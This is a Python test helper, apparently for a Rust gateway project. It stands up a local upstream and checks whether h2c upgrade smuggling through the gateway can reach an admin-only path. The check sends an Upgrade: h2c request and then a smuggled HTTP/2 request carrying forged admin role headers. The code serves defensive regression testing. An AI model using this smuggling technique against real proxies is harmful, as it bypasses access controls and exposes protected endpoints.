"""h2c request smuggling through `warden gateway` (issue 14, item 1).

Run by the Rust test `edge::h2c_smuggling_through_the_gateway_never_reaches_an_admin_path`
with the interpreter in WARDEN_TEST_PYTHON (hypercorn==0.18.0, h2==4.4.1).

    h2c_smuggling.py upstream
        Serves, with Hypercorn (which honours `Upgrade: h2c`), an app that
        answers every path; `/admin...` with a marker, counted. The count is
        at `/__admin_hits` (asked directly, never through the gateway).
        Prints `listening 127.0.0.1:PORT` once it accepts connections.

    h2c_smuggling.py attack HOST:PORT
        Through the gateway, asks a public route to upgrade to h2c, with
        HTTP2-Settings left out of Connection and then listed in it. If the
        gateway answers 101, speaks HTTP/2 on the same connection: GET
        /admin/secret with a forged X-Warden-Roles. Exits 1 if the admin
        path answered.
"""

import asyncio
import socket
import sys

ADMIN_MARKER = b"ADMIN-ONLY-SECRET"


def upstream() -> None:
    from hypercorn.asyncio import serve
    from hypercorn.config import Config

    hits = 0

    async def app(scope, receive, send):
        nonlocal hits
        if scope["type"] == "lifespan":
            while True:
                message = await receive()
                if message["type"] == "lifespan.startup":
                    await send({"type": "lifespan.startup.complete"})
                elif message["type"] == "lifespan.shutdown":
                    await send({"type": "lifespan.shutdown.complete"})
                    return
        if scope["type"] != "http":
            return
        path = scope["path"]
        if path == "/__admin_hits":
            body = str(hits).encode()
        elif path.startswith("/admin"):
            hits += 1
            body = ADMIN_MARKER
        else:
            body = b"public"
        await send(
            {
                "type": "http.response.start",
                "status": 200,
                "headers": [(b"content-type", b"text/plain")],
            }
        )
        await send({"type": "http.response.body", "body": body})

    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind(("127.0.0.1", 0))
    sock.listen(128)
    sock.set_inheritable(True)
    port = sock.getsockname()[1]
    config = Config()
    config.bind = [f"fd://{sock.fileno()}"]
    config.accesslog = None
    print(f"listening 127.0.0.1:{port}", flush=True)
    asyncio.run(serve(app, config))


def read_head(sock: socket.socket) -> tuple[bytes, bytes]:
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = sock.recv(65536)
        if not chunk:
            break
        data += chunk
    head, _, rest = data.partition(b"\r\n\r\n")
    return head, rest


def attempt(addr: str, connection: str) -> bool:
    """True if the admin path answered over the smuggled HTTP/2 connection."""
    import h2.config
    import h2.connection
    import h2.events

    host, port = addr.rsplit(":", 1)
    sock = socket.create_connection((host, int(port)), timeout=5)
    h2conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    settings = h2conn.initiate_upgrade_connection().decode()
    request = (
        f"GET /public/ HTTP/1.1\r\nHost: {addr}\r\nConnection: {connection}\r\n"
        f"Upgrade: h2c\r\nHTTP2-Settings: {settings}\r\n\r\n"
    )
    sock.sendall(request.encode())
    head, rest = read_head(sock)
    status_line = head.split(b"\r\n", 1)[0].decode(errors="replace")
    print(f"Connection: {connection!r}: the gateway answered {status_line!r}")
    if b" 101 " not in status_line.encode() + b" ":
        sock.close()
        return False
    # Switched: from here on, whatever speaks on this connection speaks HTTP/2.
    sock.sendall(h2conn.data_to_send())
    stream_id = h2conn.get_next_available_stream_id()
    h2conn.send_headers(
        stream_id,
        [
            (":method", "GET"),
            (":path", "/admin/secret"),
            (":scheme", "http"),
            (":authority", addr),
            ("x-warden-roles", "admin"),
            ("x-warden-user", "attacker"),
        ],
        end_stream=True,
    )
    sock.sendall(h2conn.data_to_send())
    status = None
    body = b""
    pending = rest
    done = False
    while not done:
        if not pending:
            try:
                pending = sock.recv(65536)
            except (socket.timeout, OSError):
                break
            if not pending:
                break
        try:
            events = h2conn.receive_data(pending)
        except Exception as error:  # not HTTP/2 at all: nothing smuggled
            print(f"  no HTTP/2 peer: {error}")
            break
        pending = b""
        for event in events:
            if isinstance(event, h2.events.ResponseReceived) and event.stream_id == stream_id:
                status = dict(event.headers).get(b":status")
            elif isinstance(event, h2.events.DataReceived) and event.stream_id == stream_id:
                body += event.data
                h2conn.acknowledge_received_data(event.flow_controlled_length, stream_id)
            elif isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset)) and event.stream_id == stream_id:
                done = True
            elif isinstance(event, h2.events.ConnectionTerminated):
                done = True
        out = h2conn.data_to_send()
        if out:
            sock.sendall(out)
    sock.close()
    print(f"  smuggled HTTP/2 request: status {status!r}, body {body[:60]!r}")
    return ADMIN_MARKER in body


def attack(addr: str) -> int:
    smuggled = False
    for connection in ["Upgrade", "Upgrade, HTTP2-Settings"]:
        smuggled |= attempt(addr, connection)
    if smuggled:
        print("FAIL: the admin-only upstream path answered through an h2c upgrade")
        return 1
    print("ok: no h2c upgrade reached the upstream")
    return 0


if __name__ == "__main__":
    if len(sys.argv) >= 2 and sys.argv[1] == "upstream":
        upstream()
    elif len(sys.argv) == 3 and sys.argv[1] == "attack":
        sys.exit(attack(sys.argv[2]))
    else:
        sys.exit(__doc__)
